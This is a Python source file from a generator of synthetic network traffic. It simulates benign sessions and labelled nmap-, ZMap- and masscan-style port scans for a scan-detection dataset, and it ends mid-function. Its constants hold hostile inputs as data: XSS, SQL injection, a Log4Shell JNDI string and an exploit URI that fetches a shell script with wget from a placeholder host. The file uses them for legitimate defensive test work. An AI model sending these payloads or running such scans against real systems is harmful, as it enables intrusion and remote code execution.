"""What happens on one synthetic day, per vantage point: benign sessions with a day/night rhythm and,
hidden in them, fast, UDP, slow, distributed and research scans. Each function returns Polars frames
of records (see `records.py`), built with numpy per activity rather than per record."""

from __future__ import annotations

import ipaddress
import struct
from dataclasses import dataclass, field
from typing import NamedTuple

import numpy as np
import polars as pl

from pipelines.generate import scenario as sc
from pipelines.generate.records import frame, local_hours_to_ts, rhythm_hours

# Relative activity of people per local hour: quiet at night, busy in office hours.
OFFICE_RHYTHM = np.array([2, 1, 1, 1, 1, 2, 3, 6, 9, 10, 10, 10, 8, 9, 10, 10, 9, 8, 6, 5, 4, 4, 3, 2], float)
HOME_RHYTHM = np.array([4, 2, 1, 1, 1, 1, 2, 4, 6, 7, 7, 7, 7, 7, 7, 7, 7, 8, 9, 10, 10, 10, 9, 6], float)
HTTP_PATHS = ("/", "/index.html", "/news/2025/11/list.html", "/static/app.js", "/api/v2/items?page=2", "/login")
DNS_NAMES = (
    "www.baidu.com",
    "www.qq.com",
    "mail.pku.edu.cn",
    "www.tsinghua.edu.cn",
    "api.weixin.qq.com",
    "www.google.com",
    "cdn.jsdelivr.net",
    "update.microsoft.com",
    "www.bing.com",
    "ntp.aliyun.com",
)
HOSTILE = (
    "<script>alert(1)</script>",
    "{{7*7}}",
    "'; DROP TABLE events; --",
    "admin\u202egnp.exe",
    "line1\nline2",
    "${jndi:ldap://203.0.113.9/a}",
)
EXPLOIT_URIS = (
    "/wp-login.php",
    "/.env",
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
    "/cgi-bin/luci/;stok=/locale",
    "/boaform/admin/formLogin",
    "/shell?cd+/tmp;wget+http://198.51.100.7/x.sh",
    "/HNAP1/",
    "/actuator/env",
    "/.git/config",
    "/console/login/LoginForm.jsp",
)
SSH_USERS = ("root", "admin", "ubuntu", "test", "oracle", "user", "pi", "postgres", "git", "ftpuser")


class Service(NamedTuple):
    """A benign TCP service as `tcp_sessions` plays it: request/response pairs, their sizes, the user's pauses."""

    exchanges: int
    req: tuple[int, ...]
    resp: tuple[int, ...]
    think_s: float = 0.0


WEB_IN = Service(1, (517,), (1400, 1400, 880))
WEB_V6 = Service(1, (517,), (1400, 620))
WEB_OUT = Service(2, (517, 240), (1400, 1400, 310))
SMTP = Service(4, (24, 40, 1200), (60, 90))
SSH = Service(18, (36, 52, 100), (36, 68, 420), think_s=8.0)
# SYN fingerprints of scanning tools: (IP ID, None for random; TCP window; TCP options)
NMAP = (None, 1024, 1)
ZMAP = (54321, 65535, 0)
MASSCAN = (None, 1024, 0)


@dataclass
class Day:
    """One UTC day being generated: its start, and the records of each vantage point."""

    t0: float
    pool: sc.AddressPool
    pcap: list[pl.DataFrame] = field(default_factory=list)
    flows: list[pl.DataFrame] = field(default_factory=list)
    fw: list[pl.DataFrame] = field(default_factory=list)
    sensor: list[pl.DataFrame] = field(default_factory=list)
    honeypot: list[pl.DataFrame] = field(default_factory=list)

    def at_local(self, hours: np.ndarray | float) -> np.ndarray:
        """UTC epoch seconds of local (Asia/Shanghai) hours-of-day on this UTC day."""
        return local_hours_to_ts(self.t0, np.atleast_1d(hours))

    def rhythm(self, rng: np.random.Generator, n: int, profile: np.ndarray) -> np.ndarray:
        """UTC epoch seconds of `n` events spread over this day by a 24-value local-hour activity profile."""
        return self.at_local(rhythm_hours(rng, n, profile))


def _truth(actor: object, label: str, kind: str, org: str = "") -> dict:
    return {"actor": actor, "label": label, "kind": kind, "org": org}


def _benign(actor: object) -> dict:
    """Ground truth of records whose initiator is benign."""
    return _truth(actor, "benign", "benign")


def _obj(values: list[str] | np.ndarray) -> np.ndarray:
    return np.asarray(values, dtype=object)


def _pick(rng: np.random.Generator, values: list[str] | np.ndarray, n: int) -> np.ndarray:
    """`n` of `values`, drawn uniformly with replacement."""
    return _obj(values)[rng.integers(len(values), size=n)]


def _repeat(value: str, n: int) -> np.ndarray:
    """An object array of `n` times the same address."""
    return np.full(n, value, dtype=object)


def _isn(rng: np.random.Generator, n: int) -> np.ndarray:
    return rng.integers(0, 1 << 32, size=n, dtype=np.int64)


# --- records -----------------------------------------------------------------------------------

# A column's values: one per record, or one for all.
Values = np.ndarray | list | str | bytes | int | float | bool | None


def _records(
    ts: np.ndarray, src: Values, dst: Values, proto: Values, sport: Values, dport: Values, truth: dict, **fields: Values
) -> pl.DataFrame:
    """Packets, flows or log lines from `src` to `dst`, one per time in `ts`; `fields` are the other columns
    the vantage point records (ICMP: the echo identifier in `sport`, the type in `dport`)."""
    return frame(len(ts), ts=ts, src=src, dst=dst, proto=proto, sport=sport, dport=dport, **fields, **truth)


# --- building blocks --------------------------------------------------------------------------


def _per_connection(value: np.ndarray | int, n: int, k: int) -> np.ndarray:
    """An (n, k) array repeating each connection's value (or one value for all) over its k packets."""
    column = np.asarray(value).reshape(-1, 1) if np.ndim(value) else np.full((n, 1), value)
    return np.broadcast_to(column, (n, k))


def tcp_sessions(
    rng: np.random.Generator,
    start: np.ndarray,
    client: np.ndarray,
    server: np.ndarray,
    port: np.ndarray | int,
    exchanges: int,
    req: tuple[int, ...],
    resp: tuple[int, ...],
    client_ttl: np.ndarray | int,
    truth: dict,
    req_payload: list[bytes] | None = None,
    think_s: float = 0.0,
) -> pl.DataFrame:
    """Complete TCP connections: handshake, `exchanges` request/response pairs (the client pausing about
    `think_s` seconds before each further request), FIN both ways, last ACK."""
    n = len(start)
    k = 3 + 2 * exchanges + 3
    step = np.arange(k)[None, :]
    rtt = 0.004 + rng.gamma(2.0, 0.02, (n, 1))
    gaps = np.broadcast_to(rtt / 2, (n, k)).copy()
    gaps[:, 0] = 0.0
    gaps[:, 4 : 4 + 2 * exchanges : 2] += rng.random((n, exchanges)) * 0.05  # server think time
    if exchanges > 1 and think_s:
        gaps[:, 5 : 3 + 2 * exchanges : 2] += rng.exponential(think_s, (n, exchanges - 1))  # a person typing
    gaps[:, k - 3] += rng.random(n) * 2.0  # the client keeps the connection open a while
    ts = start[:, None] + np.cumsum(gaps, axis=1)
    c2s = np.zeros(k, bool)
    c2s[[0, 2, k - 3, k - 1]] = True
    c2s[3 : 3 + 2 * exchanges : 2] = True
    flags = np.array(["S", "SA", "A", *(["PA"] * (2 * exchanges)), "FA", "FA", "A"], dtype=object)
    plen = np.zeros((n, k), dtype=np.int64)
    plen[:, 3 : 3 + 2 * exchanges : 2] = rng.choice(req, size=(n, exchanges))
    plen[:, 4 : 4 + 2 * exchanges : 2] = rng.choice(resp, size=(n, exchanges))
    payload = None
    if req_payload is not None:  # the first request carries real bytes (HTTP), the rest filler
        payload = np.full((n, k), None, dtype=object)
        payload[:, 3] = req_payload
        plen[:, 3] = [len(p) for p in req_payload]
    # Sequence numbers: each side's ISN, +1 for its SYN and its FIN, + the bytes it sent before.
    c_isn, s_isn = _isn(rng, n)[:, None], _isn(rng, n)[:, None]
    c_bytes, s_bytes = np.where(c2s, plen, 0), np.where(~c2s, plen, 0)
    sent_c = np.cumsum(c_bytes, axis=1) - c_bytes
    sent_s = np.cumsum(s_bytes, axis=1) - s_bytes
    c_fin, s_fin = (step > k - 3).astype(np.int64), (step > k - 2).astype(np.int64)
    seq = np.where(c2s, c_isn + (step > 0) + sent_c + c_fin, s_isn + (step > 1) + sent_s)
    ack = np.where(c2s, (s_isn + 1 + sent_s + s_fin) * (step > 0), c_isn + 1 + sent_c + c_fin)
    cl = np.repeat(client, k).reshape(n, k)
    sv = np.repeat(server, k).reshape(n, k)
    cport = rng.integers(32768, 61000, size=n)[:, None] * np.ones(k, dtype=np.int64)
    sport = _per_connection(port, n, k)
    ttl_c = _per_connection(client_ttl, n, k)
    actor = truth["actor"]
    return _records(
        ts.ravel(),
        np.where(c2s, cl, sv).ravel(),
        np.where(c2s, sv, cl).ravel(),
        "tcp",
        np.where(c2s, cport, sport).ravel(),
        np.where(c2s, sport, cport).ravel(),
        {**truth, "actor": np.repeat(actor, k) if isinstance(actor, np.ndarray) else actor},
        flags=np.tile(flags, n),
        seq=seq.ravel() & 0xFFFFFFFF,
        ack=ack.ravel() & 0xFFFFFFFF,
        ttl=np.where(c2s, ttl_c, 64).ravel(),
        ip_id=(rng.integers(1, 60000, size=(n, 1)) + step).ravel(),
        df=True,
        window=np.tile(np.where(step < 2, np.where(c2s, 64240, 65160), np.where(c2s, 502, 509)), (n, 1)).ravel(),
        opts=np.tile(np.where(step < 2, 2, 3), (n, 1)).ravel(),
        plen=plen.ravel(),
        **({"payload": list(payload.ravel())} if payload is not None else {}),
    )


def syn_probes(
    rng: np.random.Generator,
    ts: np.ndarray,
    src: np.ndarray | str,
    dst: np.ndarray,
    dport: np.ndarray,
    sport: np.ndarray | int,
    ttl: int,
    ip_id: np.ndarray | int | None,
    window: int,
    opts: int,
    truth: dict,
    replies: bool = True,
    reset_after_synack: bool = True,
) -> pl.DataFrame:
    """SYN probes and, when the target exists, its answer: SYN-ACK on an open port (then the prober's RST), else RST-ACK."""
    n = len(ts)
    src_a = np.broadcast_to(_obj([src]) if isinstance(src, str) else src, (n,)).astype(object)
    sport_a = np.broadcast_to(np.asarray(sport), (n,)).astype(np.int64)
    ids = rng.integers(1, 65535, size=n) if ip_id is None else np.broadcast_to(np.asarray(ip_id), (n,))
    seq = _isn(rng, n)
    prober = {"ttl": ttl, "ip_id": ids, "df": opts == 2, "window": window, "opts": opts}
    frames = [_records(ts, src_a, dst, "tcp", sport_a, dport, truth, flags="S", seq=seq, ack=0, **prober)]
    if replies:
        frames += _answers(rng, ts, src_a, dst, sport_a, dport, seq, ttl, truth, reset_after_synack)
    return pl.concat([f for f in frames if f.height], how="vertical_relaxed")


def _answers(
    rng: np.random.Generator,
    ts: np.ndarray,
    src: np.ndarray,
    dst: np.ndarray,
    sport: np.ndarray,
    dport: np.ndarray,
    seq: np.ndarray,
    ttl: int,
    truth: dict,
    reset_after_synack: bool,
) -> list[pl.DataFrame]:
    """Answers to SYN probes from the targets that exist, and the prober's RST after each SYN-ACK."""
    known = np.array([d in sc.OPEN_PORTS for d in dst])
    is_open = np.array([int(p) in sc.OPEN_PORTS.get(d, ()) for d, p in zip(dst, dport, strict=True)])
    m = int(known.sum())
    if not m:
        return []
    ts, src, dst, sport, dport, seq, op = (a[known] for a in (ts, src, dst, sport, dport, seq, is_open))
    rts = ts + 0.0005 + rng.gamma(2.0, 0.01, m)
    ack = (seq + 1) & 0xFFFFFFFF
    synack = {"flags": np.where(op, "SA", "RA"), "seq": np.where(op, _isn(rng, m), 0), "ack": ack}
    linux = {"ttl": 64, "ip_id": 0, "df": True, "window": np.where(op, 65160, 0), "opts": np.where(op, 1, 0)}
    frames = [_records(rts, dst, src, "tcp", dport, sport, truth, **synack, **linux)]
    if reset_after_synack and op.any():
        ids = rng.integers(1, 65535, size=int(op.sum()))
        reset = {"flags": "R", "seq": ack[op], "ack": 0, "ttl": ttl, "ip_id": ids, "df": False, "window": 0, "opts": 0}
        frames.append(_records(rts[op] + 0.0002, src[op], dst[op], "tcp", sport[op], dport[op], truth, **reset))
    return frames


def _ipv4_quote(src: str, dst: str, proto: int, sport: int, dport: int, ttl: int, ip_id: int, l4len: int) -> bytes:
    """The original IPv4 header and first 8 bytes that an ICMP error quotes."""
    hdr = struct.pack(
        "!BBHHHBBH4s4s",
        0x45,
        0,
        20 + l4len,
        ip_id,
        0,
        ttl,
        proto,
        0,
        ipaddress.ip_address(src).packed,
        ipaddress.ip_address(dst).packed,
    )
    return hdr + struct.pack("!HHHH", sport, dport, l4len, 0)


def dns_query(name: str, qid: int, answer: bool = False) -> bytes:
    """A DNS query for an A record (or its answer, with one record)."""
    qname = b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\x00"
    flags, ancount = (0x8180, 1) if answer else (0x0100, 0)
    msg = struct.pack("!HHHHHH", qid, flags, 1, ancount, 0, 0) + qname + struct.pack("!HH", 1, 1)
    if answer:
        msg += struct.pack("!HHHIH4s", 0xC00C, 1, 1, 300, 4, bytes([61, 135, 169, 121]))
    return msg


def _hours(rng: np.random.Generator, n: int, peak: tuple[int, ...], share: float) -> np.ndarray:
    """Local hours: `share` of them in the peak hours, the rest spread over the day."""
    at_peak = rng.random(n) < share
    return np.where(at_peak, rng.choice(np.array(peak), size=n) + rng.random(n), rng.random(n) * 24)


# --- the monitored network (capture.pcap) -----------------------------------------------------


def benign_pcap(d: Day, rng: np.random.Generator, clients: list[str], v6_clients: list[str], scale: float) -> None:
    """Web, DNS, mail and SSH as the tap sees them, following the day rhythm; every initiator is benign."""
    d.pcap += [
        *_inbound_web(d, rng, clients, v6_clients, scale),
        *_office_sessions(d, rng, clients, scale),
        *_dns(d, rng, scale),
        *_gateway_pings(d, rng),
        _refused(d, rng, clients, scale),
    ]


def _benign_sessions(
    rng: np.random.Generator,
    start: np.ndarray,
    who: np.ndarray,
    server: np.ndarray,
    port: np.ndarray | int,
    ttl: np.ndarray | int,
    service: Service,
    payload: list[bytes] | None = None,
) -> pl.DataFrame:
    """`service` connections from `who` to `server`, labelled benign."""
    exchanges, req, resp, think_s = service
    return tcp_sessions(rng, start, who, server, port, exchanges, req, resp, ttl, _benign(who), payload, think_s)


def _http_requests(rng: np.random.Generator, n: int) -> list[bytes]:
    """`n` browser GET requests for pages of the site."""
    return [
        f"GET {HTTP_PATHS[i % len(HTTP_PATHS)]} HTTP/1.1\r\nHost: www.example.edu.cn\r\nUser-Agent: "
        f"Mozilla/5.0 (Windows NT 10.0; Win64; x64)\r\nAccept: */*\r\n\r\n".encode()
        for i in rng.integers(len(HTTP_PATHS), size=n)
    ]


def _inbound_web(
    d: Day, rng: np.random.Generator, clients: list[str], v6_clients: list[str], scale: float
) -> list[pl.DataFrame]:
    """Internet clients on the web servers, each client sticking to one: HTTPS mostly, some HTTP, a few over IPv6."""
    n = int(6000 * scale)
    who = _pick(rng, clients, n)
    affinity = {c: sc.WEB_SERVERS[i % len(sc.WEB_SERVERS)] for i, c in enumerate(clients)}
    server = _obj([affinity[c] for c in who])
    port = np.where(rng.random(n) < 0.8, 443, 80)
    start = d.rhythm(rng, n, HOME_RHYTHM)
    ttl = rng.choice([46, 49, 51, 53, 55, 113, 116], size=n)
    frames = []
    for is_http in (False, True):
        sel = (port == 80) == is_http
        payload = _http_requests(rng, int(sel.sum())) if is_http else None
        frames.append(_benign_sessions(rng, start[sel], who[sel], server[sel], port[sel], ttl[sel], WEB_IN, payload))
    n_v6 = int(300 * scale)
    who6 = _pick(rng, v6_clients, n_v6)
    start6 = d.rhythm(rng, n_v6, HOME_RHYTHM)
    frames.append(_benign_sessions(rng, start6, who6, _repeat(sc.HOME_V6_WEB, n_v6), 443, 57, WEB_V6))
    return frames


def _office_sessions(d: Day, rng: np.random.Generator, clients: list[str], scale: float) -> list[pl.DataFrame]:
    """Office clients browsing the web, other MTAs delivering mail, administrators on SSH."""
    n_out = int(2000 * scale)
    office = _pick(rng, sc.HOME_CLIENTS, n_out)
    sites = d.pool.draw(rng, sc.EXTERNAL_SITES, 120)
    start = d.rhythm(rng, n_out, OFFICE_RHYTHM)
    web = _benign_sessions(rng, start, office, _pick(rng, sites, n_out), 443, 64, WEB_OUT)
    n_mail = int(500 * scale)
    mta = _pick(rng, clients[: max(20, len(clients) // 10)], n_mail)
    start = d.rhythm(rng, n_mail, OFFICE_RHYTHM)
    mail = _benign_sessions(rng, start, mta, _repeat(sc.MAIL_SERVER, n_mail), 25, 52, SMTP)
    n_ssh = int(60 * scale)
    admins = _pick(rng, sc.HOME_CLIENTS[:8], n_ssh)
    start = d.rhythm(rng, n_ssh, OFFICE_RHYTHM)
    return [web, mail, _benign_sessions(rng, start, admins, _repeat(sc.SSH_SERVER, n_ssh), 22, 64, SSH)]


def _dns_exchange(
    rng: np.random.Generator,
    ts: np.ndarray,
    client: Values,
    server: Values,
    cport: Values,
    query: list[bytes],
    answer: list[bytes],
    latency: float,
    answer_ttl: int,
    answer_ip_id: int | None,
    answer_df: bool,
    truth: dict,
) -> list[pl.DataFrame]:
    """DNS queries from `client` to `server` and the answers, `latency` plus jitter later; an answer IP ID of
    None draws random ones."""
    n = len(ts)
    ids = rng.integers(1, 65535, size=n)
    asked = _records(ts, client, server, "udp", cport, 53, truth, ttl=64, ip_id=ids, df=False, payload=query)
    answer_ts = ts + latency + rng.gamma(2, 0.004, n)
    ids = rng.integers(1, 65535, size=n) if answer_ip_id is None else answer_ip_id
    header = {"ttl": answer_ttl, "ip_id": ids, "df": answer_df}
    return [asked, _records(answer_ts, server, client, "udp", 53, cport, truth, **header, payload=answer)]


def _dns(d: Day, rng: np.random.Generator, scale: float) -> list[pl.DataFrame]:
    """Office clients ask the site resolver, which forwards misses upstream."""
    n = int(7000 * scale)
    asker = _pick(rng, sc.HOME_CLIENTS, n)
    qt = d.rhythm(rng, n, OFFICE_RHYTHM)
    names = rng.integers(len(DNS_NAMES), size=n)
    qid = rng.integers(0, 65536, size=n)
    cport = rng.integers(32768, 61000, size=n)
    q = [dns_query(DNS_NAMES[i], int(x)) for i, x in zip(names, qid, strict=True)]
    a = [dns_query(DNS_NAMES[i], int(x), answer=True) for i, x in zip(names, qid, strict=True)]
    frames = _dns_exchange(rng, qt, asker, sc.DNS_SERVER, cport, q, a, 0.0004, 64, 0, True, _benign(asker))
    miss = rng.random(n) < 0.25
    m = int(miss.sum())
    up = _pick(rng, sc.UPSTREAM_RESOLVERS, m)
    fport = rng.integers(1024, 65535, size=m)
    fq, fa = [q[i] for i in np.flatnonzero(miss)], [a[i] for i in np.flatnonzero(miss)]
    truth = _benign(sc.DNS_SERVER)
    return frames + _dns_exchange(
        rng, qt[miss] + 0.0001, sc.DNS_SERVER, up, fport, fq, fa, 0.008, 58, None, False, truth
    )


def _gateway_pings(d: Day, rng: np.random.Generator) -> list[pl.DataFrame]:
    """The monitoring host pings the gateway every minute: many requests, one target."""
    pt = d.t0 + 30 + np.arange(1440) * 60.0 + rng.random(1440) * 0.01
    echo, truth = {"code": 0, "ip_id": np.arange(1440), "plen": 56}, _benign(sc.MONITOR)
    return [
        _records(pt, sc.MONITOR, sc.GATEWAY, "icmp", 4242, 8, truth, ttl=64, df=True, **echo),
        _records(pt + 0.0006, sc.GATEWAY, sc.MONITOR, "icmp", 4242, 0, truth, ttl=255, df=False, **echo),
    ]


def _refused(d: Day, rng: np.random.Generator, clients: list[str], scale: float) -> pl.DataFrame:
    """Mistyped or stale service addresses: a refused connection now and then (SYN, RST-ACK)."""
    n = int(150 * scale)
    who = _pick(rng, clients, n)
    start = d.rhythm(rng, n, HOME_RHYTHM)
    servers = _pick(rng, sc.WEB_SERVERS, n)
    ports, sports = rng.choice([8080, 8443, 21], size=n), rng.integers(32768, 61000, size=n)
    return syn_probes(rng, start, who, servers, ports, sports, 52, None, 64240, 2, _benign(who))


def _scan(
    rng: np.random.Generator,
    ts: np.ndarray,
    src: str,
    dst: np.ndarray,
    ports: np.ndarray,
    sport: Values,
    ttl: int,
    tool: tuple[int | None, int, int],
    kind: str,
) -> pl.DataFrame:
    """A port scan's SYN probes with `tool`'s fingerprint (see NMAP), and the answers, labelled `kind`."""
    ip_id, window, opts = tool
    return syn_probes(rng, ts, src, dst, ports, sport, ttl, ip_id, window, opts, _truth(src, "scan", kind))


def _sweep(
    d: Day,
    rng: np.random.Generator,
    country: str,
    hosts: np.ndarray,
    ports: list[int],
    hours: tuple[float, float],
    gap: float,
    sport: int | None,
    ttl: int,
    tool: tuple[int | None, int, int],
) -> pl.DataFrame:
    """A fast horizontal scan: every host on each of `ports` in random order, `gap` seconds apart, started
    within local `hours`; a `sport` of None draws one per probe."""
    src = d.pool.country(rng, country)[0]
    targets = np.tile(hosts, len(ports))
    dports = np.repeat(ports, len(hosts))
    order = rng.permutation(len(targets))
    ts = d.at_local(rng.uniform(*hours))[0] + np.arange(len(targets)) * gap
    sports = rng.integers(32768, 61000, size=len(targets)) if sport is None else sport
    return _scan(rng, ts, src, targets[order], dports[order], sports, ttl, tool, "fast_horizontal")


def fast_scans(d: Day, rng: np.random.Generator) -> None:
    """Fast vertical and horizontal SYN scans and a UDP scan against the monitored network."""
    hosts = _obj([str(a) for net in sc.HOME_NET for a in ipaddress.ip_network(net).hosts()])
    # nmap -T4 -sS of the 1000 top ports of a web server, at night (paper 000's peak).
    for country, target, hour in (
        ("RU", sc.WEB_SERVERS[0], rng.uniform(22, 23.5)),
        ("CN", sc.OTHER_SERVERS[1], rng.uniform(1, 4)),
    ):
        src = d.pool.country(rng, country)[0]
        ports = rng.permutation(np.arange(1, 1201))[:1000]
        ts = d.at_local(hour)[0] + np.arange(1000) * rng.uniform(0.004, 0.02) + rng.random(1000) * 0.002
        sport, ttl = int(rng.integers(40000, 65000)), int(rng.integers(38, 52))
        d.pcap.append(_scan(rng, ts, src, _repeat(target, 1000), ports, sport, ttl, NMAP, "fast_vertical"))
    # ZMap-like sweep of the site on telnet and SSH: IP ID 54321, no options, random order.
    d.pcap.append(_sweep(d, rng, "NL", hosts, [23, 22], (2, 5), 0.008, None, 47, ZMAP))
    # masscan-like sweep for RDP, SMB and VNC (window 1024, one source port), from the US.
    d.pcap.append(_sweep(d, rng, "US", hosts, [3389, 445, 5900], (9, 18), 0.002, 61000, 242, MASSCAN))
    d.pcap += _udp_scan(d, rng)


def _udp_scan(d: Day, rng: np.random.Generator) -> list[pl.DataFrame]:
    """nmap -sU of 200 ports of the DNS server: empty datagrams, ICMP port unreachable back."""
    src = d.pool.country(rng, "BR")[0]
    target = sc.DNS_SERVER
    ports = np.concatenate([[53], rng.permutation(np.setdiff1d(np.arange(1, 1024), [53]))[:199]])
    ts = d.at_local(rng.uniform(9, 17))[0] + np.arange(200) * 0.3 + rng.random(200) * 0.05
    sport = int(rng.integers(40000, 65000))
    ids = rng.integers(1, 65535, size=200)
    truth = _truth(src, "scan", "udp")
    payload = [dns_query("version.bind", 7) if p == 53 else b"" for p in ports]
    probes = _records(ts, src, target, "udp", sport, ports, truth, ttl=45, ip_id=ids, df=False, payload=payload)
    closed = ports != 53
    quotes = [
        _ipv4_quote(src, target, 17, sport, int(p), 45, int(i), 8)
        for p, i in zip(ports[closed], ids[closed], strict=True)
    ]
    header = {"ttl": 64, "ip_id": rng.integers(1, 65535, size=int(closed.sum())), "df": False}
    unreachable = _records(ts[closed] + 0.0008, target, src, "icmp", 0, 3, truth, code=3, **header, payload=quotes)
    version = [dns_query("version.bind", 7, answer=True)]
    answer = _records(
        ts[~closed] + 0.001, target, src, "udp", 53, sport, truth, ttl=64, ip_id=1, df=False, payload=version
    )
    return [probes, unreachable, answer]


def slow_scan_pcap(d: Day, rng: np.random.Generator) -> None:
    """nmap -T2 (0.4 s between probes) vertical scan of 3,000 ports of one server: twenty minutes."""
    src = d.pool.country(rng, "IR")[0]
    n = 3000
    ts = d.at_local(rng.uniform(0, 23.5))[0] + np.arange(n) * 0.4 + rng.random(n) * 0.01
    ports, sport = rng.permutation(np.arange(1, 3001)), int(rng.integers(40000, 65000))
    d.pcap.append(_scan(rng, ts, src, _repeat(sc.WEB_SERVERS[3], n), ports, sport, 44, NMAP, "slow_vertical"))


# --- the other segment (flows.csv) ------------------------------------------------------------


def office_flows(
    rng: np.random.Generator,
    start: np.ndarray,
    clients: np.ndarray,
    servers: np.ndarray,
    ports: np.ndarray,
    udp: np.ndarray,
    fail_share: float,
) -> pl.DataFrame:
    """Unidirectional flows as NetFlow exports them: a request flow and its reply flow per connection;
    `fail_share` of TCP attempts get no answer (a bare SYN flow). UDP is DNS, NTP or QUIC."""
    n = len(start)
    failed = ~udp & (rng.random(n) < fail_share)
    pk_req = np.where(udp, 1, np.where(failed, 1, rng.integers(3, 40, size=n)))
    pk_resp = np.where(udp, 1, rng.integers(3, 60, size=n))
    udp_len = np.where(
        ports == 53, rng.integers(60, 110, size=n), np.where(ports == 123, 76, rng.integers(80, 1300, size=n))
    )
    by_req = np.where(udp, udp_len, np.where(failed, 60, pk_req * rng.integers(52, 600, size=n)))
    by_resp = np.where(
        udp,
        udp_len + np.where(ports == 123, 0, rng.integers(16, 200, size=n)),
        pk_resp * rng.integers(52, 1500, size=n),
    )
    big = rng.random(n) < 0.01  # downloads
    by_resp = np.where(big & ~udp, rng.integers(1_000_000, 40_000_000, size=n), by_resp)
    dur = np.where(udp | failed, 0.0, rng.gamma(1.2, 2.0, n))
    cport = rng.integers(32768, 61000, size=n)
    proto = np.where(udp, "udp", "tcp")
    flags = np.where(udp, "", np.where(failed, "S", "APSF"))
    flow = {"flags": flags, "packets": pk_req, "bytes": by_req, "duration": dur}
    req = _records(start, clients, servers, proto, cport, ports, _benign(clients), **flow)
    ok = ~failed
    rts = start[ok] + rng.gamma(2, 0.01, int(ok.sum()))
    flow = {"flags": np.where(udp[ok], "", "APSF"), "packets": pk_resp[ok], "bytes": by_resp[ok], "duration": dur[ok]}
    resp = _records(rts, servers[ok], clients[ok], proto[ok], ports[ok], cport[ok], _benign(clients[ok]), **flow)
    return pl.concat([req, resp], how="vertical_relaxed")


def benign_flows(d: Day, rng: np.random.Generator, scale: float) -> None:
    """Office clients of the other segment: their own few servers (file, web, mail, RDP), their resolver,
    and a few dozen Internet sites each (QUIC to two or three of them)."""
    n = int(16000 * scale)
    who = rng.integers(len(sc.OFFICE_CLIENTS), size=n)
    clients = _obj(sc.OFFICE_CLIENTS)[who]
    servers_in = _obj(sc.OFFICE_SERVERS)
    external = _obj(d.pool.draw(rng, sc.EXTERNAL_SITES, 200))
    internal = rng.random(n) < 0.45
    ports_in = rng.choice(
        [445, 80, 443, 993, 3389, 8080, 53, 123], size=n, p=[0.3, 0.15, 0.2, 0.1, 0.05, 0.05, 0.12, 0.03]
    )
    ports_out = rng.choice([443, 80, 22], size=n, p=[0.8, 0.17, 0.03])
    quic = ~internal & (ports_out == 443) & (rng.random(n) < 0.15)
    own_server = servers_in[(3 + who * 7 + rng.integers(0, 3, size=n)) % len(servers_in)]
    resolver = servers_in[who % 2]  # DNS and NTP go to the segment's own servers
    site = external[(who * 13 + rng.integers(0, np.where(quic, 3, 30))) % len(external)]
    servers = np.where(
        internal, np.where(ports_in == 53, resolver, np.where(ports_in == 123, servers_in[2], own_server)), site
    )
    ports = np.where(internal, ports_in, ports_out)
    udp = np.where(internal, np.isin(ports_in, (53, 123)), quic)
    start = d.rhythm(rng, n, OFFICE_RHYTHM)
    d.flows.append(office_flows(rng, start, clients, servers, ports, udp, 0.02))


def slow_scans_flows(d: Day, rng: np.random.Generator) -> None:
    """nmap -T1 (15 s) and -T2 (0.4 s) scans of the other segment, labelled as CIDDS labels them."""
    sweep = _obj([str(a) for a in ipaddress.ip_network(sc.OFFICE_SWEEP).hosts()])
    plans = [  # (kind, country, pacing s, targets as (hosts, ports), attack id)
        ("vertical", "KR", 15.0, (_repeat(sc.OFFICE_SERVERS[4], 500), rng.permutation(np.arange(1, 1025))[:500])),
        ("horizontal", "IN", 15.0, (rng.permutation(sweep)[:300], np.full(300, 3389))),
        ("horizontal", "VN", 0.4, (np.tile(rng.permutation(sweep), 2), np.repeat([445, 139], len(sweep)))),
        ("vertical", "CN", 0.4, (_repeat(sc.OFFICE_SERVERS[9], 2500), rng.permutation(np.arange(1, 2501)))),
    ]
    alive = set(sc.OFFICE_CLIENTS) | set(sc.OFFICE_SERVERS)
    for attack_id, (kind, country, gap, (hosts, ports)) in enumerate(plans, start=1):
        src = d.pool.country(rng, country)[0]
        n = len(hosts)
        duration = n * gap
        ts = d.t0 + rng.uniform(60, 86_400 - duration - 120) + np.arange(n) * gap + rng.random(n) * 0.05
        sport = int(rng.integers(40000, 65000))
        label = {
            "attack_type": "portScan",
            "attack_id": str(attack_id),
            "attack_desc": f"nmap {'-T1' if gap >= 15 else '-T2'} {kind}",
        }
        truth = _truth(src, "scan", f"slow_{kind}")
        probe = {"flags": "S", "packets": 1, "bytes": 44, "duration": 0.0, "cls": "attacker", **label}
        d.flows.append(_records(ts, src, hosts, "tcp", sport, ports, truth, **probe))
        up = np.array([h in alive for h in hosts])
        reply = {"flags": "AR", "packets": 1, "bytes": 40, "duration": 0.0, "cls": "victim", **label}
        d.flows.append(_records(ts[up] + 0.001, hosts[up], src, "tcp", ports[up], sport, truth, **reply))


# --- the Internet-facing server (firewall.log) --------------------------------------------------


def firewall_noise(d: Day, rng: np.random.Generator, scale: float) -> None:
    """Background radiation: many sources, each trying one port once or twice (a retransmission). Benign by our rule."""
    n = int(3000 * scale)
    srcs, _ = d.pool.anywhere(rng, n)
    src = _obj(srcs)
    port = rng.choice([22, 23, 80, 443, 445, 1433, 3389, 5555, 6379, 8080, 2375, 37215, 52869], size=n)
    ts = d.t0 + rng.random(n) * 86_390
    again = rng.random(n) < 0.4
    src2, port2, ts2 = src[again], port[again], ts[again] + 1.0 + rng.random(int(again.sum()))
    all_src, all_port, all_ts = np.concatenate([src, src2]), np.concatenate([port, port2]), np.concatenate([ts, ts2])
    k = len(all_src)
    d.fw.append(
        _records(
            np.minimum(all_ts, d.t0 + 86_399.9),
            all_src,
            sc.VPS,
            "tcp",
            rng.integers(1024, 65535, size=k),
            all_port,
            _benign(all_src),
            ttl=rng.choice([44, 47, 49, 52, 54, 108, 111, 114, 116, 235, 240, 243], size=k),  # 64/128/255 minus hops
            ip_id=rng.integers(1, 65535, size=k),
            df=rng.random(k) < 0.5,
            window=rng.choice([1024, 14600, 29200, 65535], size=k),
            opts=rng.choice([0, 2], size=k),
        )
    )


def firewall_scans(d: Day, rng: np.random.Generator) -> None:
    """A slow vertical crawl (about one port a minute for 22 hours) and a distributed sweep (many sources, few probes)."""
    crawler = d.pool.country(rng, "DE")[0]
    n = 1300
    ts = d.t0 + 300 + np.arange(n) * 60.0 + rng.random(n) * 8
    ports, ip_id = rng.permutation(np.arange(1024, 65535))[:n], rng.integers(1, 65535, size=n)
